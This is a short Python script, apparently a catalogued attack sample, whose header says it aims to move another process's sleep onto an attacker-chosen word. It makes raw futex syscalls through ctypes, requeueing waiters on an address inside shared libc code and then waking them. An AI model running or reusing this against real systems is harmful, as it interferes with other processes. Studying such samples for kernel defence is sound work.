"""
goal: move another process's sleep to a word of one's own
effect: victim
needs: x86_64
"""

import ctypes

libc = ctypes.CDLL(None, use_errno=True)
word = ctypes.cast(libc.getpid, ctypes.c_void_p).value & ~3
libc.syscall(202, ctypes.c_void_p(word), 3, 0, ctypes.c_void_p(100), ctypes.c_void_p(word + 4), 0)
libc.syscall(202, ctypes.c_void_p(word + 4), 1, 100, None, None, 0)
